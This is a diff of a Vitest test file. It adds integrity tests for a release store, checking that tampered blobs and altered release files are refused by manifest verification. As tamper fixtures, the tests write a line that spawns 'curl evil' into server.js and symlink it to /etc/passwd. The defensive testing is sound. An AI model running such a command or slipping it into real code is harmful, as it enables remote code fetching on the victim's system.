@@ -1,5 +1,5 @@
 import { existsSync } from 'node:fs';
-import { mkdir, readdir, rm, utimes } from 'node:fs/promises';
+import { mkdir, readdir, readFile, rm, stat, symlink, utimes, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { releaseFolderName, ReleaseStore } from './release-store.js';
@@ -49,10 +49,82 @@ describe('ReleaseStore', () => {
   it('leaves no trace when the artifact cannot be unpacked', async () => {
     const dataDir = join(root, 'broken');
     const store = new ReleaseStore(dataDir);
-    await expect(
-      store.ensure('web', 'dev', `sha256:${'0'.repeat(64)}`, join(root, 'missing.tgz')),
-    ).rejects.toThrow();
-    expect(await readdir(join(dataDir, 'releases', 'web', 'dev'))).toEqual([]);
+    const digest = `sha256:${'0'.repeat(64)}`;
+    await expect(store.ensure('web', 'dev', digest, join(root, 'missing.tgz'))).rejects.toThrow(
+      `artifact ${digest} is missing`,
+    );
+    expect(existsSync(join(dataDir, 'releases', 'web', 'dev'))).toBe(false);
+  });
+
+  it('refuses to unpack a blob whose bytes changed since upload, naming the digest', async () => {
+    const dataDir = join(root, 'tampered-blob');
+    const store = new ReleaseStore(dataDir);
+    const copy = join(root, 'tampered.tgz');
+    const bytes = await readFile(hello.path);
+    await writeFile(copy, Buffer.concat([bytes, Buffer.from('extra')]));
+    const failure = await store.ensure('web', 'dev', hello.digest, copy).catch((e: unknown) => e);
+    expect(failure).toMatchObject({ code: 'artifact_corrupt', extra: { digest: hello.digest } });
+    expect(String(failure)).toContain(`artifact ${hello.digest} was changed after upload`);
+    expect(existsSync(store.path('web', 'dev', hello.digest))).toBe(false);
+  });
+
+  it('checks the release against its manifest on every start', async () => {
+    const dataDir = join(root, 'tampered-release');
+    const store = new ReleaseStore(dataDir);
+    const dir = await store.ensure('web', 'dev', hello.digest, hello.path);
+    const server = join(dir, 'server.js');
+    const original = await readFile(server);
+    const refusal = async () => {
+      const error = await store.ensure('web', 'dev', hello.digest, hello.path).then(
+        () => undefined,
+        (e: unknown) => e as Error,
+      );
+      expect(error, 'a changed release must be refused').toBeDefined();
+      expect(error).toMatchObject({ code: 'artifact_corrupt' });
+      expect(error?.message).toContain(`release of artifact ${hello.digest}`);
+      return error?.message;
+    };
+
+    await writeFile(server, 'require("child_process").exec("curl evil")\n');
+    expect(await refusal()).toContain('(changed server.js)');
+    await writeFile(
+      server,
+      Buffer.concat([original.subarray(0, 10), Buffer.from('X'), original.subarray(11)]),
+    );
+    expect(await refusal()).toContain('(changed server.js)');
+    await rm(server);
+    expect(await refusal()).toContain('(missing server.js)');
+    await symlink('/etc/passwd', server);
+    expect(await refusal()).toContain('(replaced server.js)');
+    await rm(server);
+
+    await writeFile(server, original);
+    await writeFile(join(dir, 'cache.pyc'), 'written by the program itself');
+    await expect(store.ensure('web', 'dev', hello.digest, hello.path)).resolves.toBe(dir);
+  });
+
+  it('keeps the manifest outside the release, private, and remakes it from the blob', async () => {
+    const dataDir = join(root, 'manifest');
+    const store = new ReleaseStore(dataDir);
+    const dir = await store.ensure('web', 'dev', hello.digest, hello.path);
+    const manifest = join(dataDir, 'releases', '.manifests', `${hello.digest.slice(7)}.json`);
+    expect((await stat(manifest)).mode & 0o777).toBe(0o600);
+    expect(JSON.parse(await readFile(manifest, 'utf8'))).toMatchObject({
+      digest: hello.digest,
+      entries: [
+        { path: 'hello.json', kind: 'file' },
+        { path: 'package.json', kind: 'file' },
+        { path: 'server.js', kind: 'file' },
+      ],
+    });
+
+    // Losing the manifest does not lose the check: it is made again from the verified blob.
+    await rm(manifest);
+    await writeFile(join(dir, 'hello.json'), '{"version":"evil"}');
+    await expect(store.ensure('web', 'dev', hello.digest, hello.path)).rejects.toThrow(
+      '(changed hello.json)',
+    );
+    expect(existsSync(manifest)).toBe(true);
   });
 
   it('prunes all but the kept releases, and only stale temporary folders', async () => {
